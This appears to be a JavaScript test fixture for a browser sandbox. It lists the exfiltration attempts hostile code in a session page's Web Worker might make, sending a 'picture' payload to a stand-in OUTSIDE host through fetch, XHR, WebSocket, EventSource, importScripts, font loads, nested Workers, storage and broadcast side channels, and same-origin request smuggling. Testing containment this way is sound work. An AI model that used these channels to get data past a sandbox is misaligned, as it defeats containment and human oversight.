// What hostile code in the session page's Worker could try. OUTSIDE stands for an address that hears whatever comes.
(async () => {
  const to = "OUTSIDE";
  const said = { method: "POST", mode: "no-cors", body: "picture" };
  const nested = `fetch("${to}/nested", ${JSON.stringify(said)})`;
  const tries = {
    fetch: () => fetch(`${to}/fetch`, said),
    prototype: () => WorkerGlobalScope.prototype.fetch.call(self, `${to}/prototype`, said),
    own_header: () => fetch("/assets/icon.svg", { headers: { "x-picture": "picture" } }),
    own_query: () => fetch("/assets/icon.svg?picture"),
    own_range: () => fetch("/assets/icon.svg", { headers: { range: "bytes=77-999" } }),
    own_post: () => fetch("/assets/icon.svg", said),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${to}/xhr`, false);
      request.send("picture");
    },
    websocket: () => void new WebSocket(`${to.replace("http", "ws")}/websocket`),
    eventsource: () => void new EventSource(`${to}/eventsource`),
    script: () => importScripts(`${to}/script`),
    own_script: () => importScripts("/assets/icon.svg?picture"),
    font: () => new FontFace("x", `url("${to}/font")`).load(),
    nested: () => void new Worker(URL.createObjectURL(new Blob([nested]))),
    broadcast: () => new BroadcastChannel("left").postMessage("picture"),
    cache: () => caches.open("picture"),
    lock: () => void navigator.locks.request("picture", () => new Promise(() => {})),
    files: async () => (await navigator.storage.getDirectory()).getFileHandle("picture", { create: true }),
    patched: () => {
      RegExp.prototype.exec = RegExp.prototype.test = () => ({});
      return fetch(`${to}/patched`, said);
    },
  };
  for (const name in tries) {
    try {
      await Promise.race([tries[name](), new Promise((done) => setTimeout(done, 300))]);
    } catch {}
  }
  postMessage({ kind: "tried" });
})();
